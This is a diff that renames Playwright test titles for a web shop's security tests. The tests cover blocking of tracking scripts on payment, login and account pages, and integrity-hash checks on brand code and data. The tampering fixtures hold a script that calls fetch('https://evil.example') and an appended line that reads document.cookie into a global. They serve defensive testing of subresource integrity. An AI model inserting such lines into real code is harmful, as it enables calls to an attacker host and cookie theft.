@@ -45,7 +45,7 @@ test.describe('a tracking script', () => {
     await counter.close()
   })
 
-  test('is not kept from an open page to the payment', async ({ page }) => {
+  test('does not stay loaded from an open page to the payment', async ({ page }) => {
     const driver = await ApplicationDriver.start(live.url)
     await driver.checked()
     await page.context().addCookies([{ name: 'token', value: driver.token, url: live.url }])
@@ -64,12 +64,12 @@ test.describe('a tracking script', () => {
     await expect(page.locator('script[data-tracking]')).toHaveCount(0)
   })
 
-  test('may not even be loaded on a page about money, accounts or work', async ({ page }) => {
+  test('is blocked on pages about money, accounts or work', async ({ page }) => {
     expect(scriptSources(await policyOf(page, `${live.url}/de/help`))).toContain(counter.url)
     for (const path of SENSITIVE) expect(await policyOf(page, live.url + path), path).not.toContain(counter.url)
   })
 
-  test('that is no longer what its hash says does not run', async ({ page, complaints }) => {
+  test('does not run if it no longer matches its hash', async ({ page, complaints }) => {
     complaints.expect(/integrity/)
     const other = await script(await freePort(), `${COUNTING}; fetch('https://evil.example')`)
     const server = await startLiveServer({
@@ -118,7 +118,7 @@ test.describe('a brand of another origin', () => {
     return urls
   }
 
-  test('is code with its hashes on open pages', async ({ page }) => {
+  test('runs as code with integrity hashes on open pages', async ({ page }) => {
     const urls = loaded(page)
     await page.goto(`${shop.url}/de`)
     await expect(page.locator(LOGO)).toBeVisible()
@@ -126,7 +126,7 @@ test.describe('a brand of another origin', () => {
     expect(urls).toContain('/assets/remoteEntry.js')
   })
 
-  test('is data on a page about money, accounts or work, and its code may not be loaded there', async ({ page }) => {
+  test('is read as data on pages about money, accounts or work, where its code is blocked', async ({ page }) => {
     const urls = loaded(page)
     await page.goto(`${shop.url}/de/login`)
     await onScreen(page, 'login')
@@ -142,7 +142,7 @@ test.describe('a brand of another origin', () => {
     if (process.env['LOOK']) await page.screenshot({ path: `${process.env['LOOK']}/brand-login.png` })
   })
 
-  test('does not take its code along to such a page', async ({ page }) => {
+  test('does not keep its code loaded on the way to such a page', async ({ page }) => {
     await page.goto(`${shop.url}/de/help`)
     await onScreen(page, 'help')
     await expect(page.locator(LOGO)).toBeVisible()
@@ -154,7 +154,7 @@ test.describe('a brand of another origin', () => {
   })
 
   // The last two tests change the brand's files.
-  test('whose code has changed leaves the built-in look', async ({ page, complaints }) => {
+  test('falls back to the built-in look if its code no longer matches its hash', async ({ page, complaints }) => {
     complaints.expect(/integrity|Failed to load/)
     const part = (await readdir(join(hausfink.folder, 'assets'))).find((name) => name.startsWith('jsx-runtime')) ?? ''
     await appendFile(join(hausfink.folder, 'assets', part), '\nglobalThis.taken = document.cookie')
@@ -165,7 +165,7 @@ test.describe('a brand of another origin', () => {
     expect(await page.evaluate(() => 'taken' in globalThis)).toBe(false)
   })
 
-  test('whose data have changed leaves the built-in look', async ({ page, complaints }) => {
+  test('falls back to the built-in look if its data no longer match their hash', async ({ page, complaints }) => {
     complaints.expect(/integrity|Failed to load/)
     await appendFile(join(hausfink.folder, 'assets/brand.json'), ' ')
     await page.goto(`${shop.url}/de/login`)
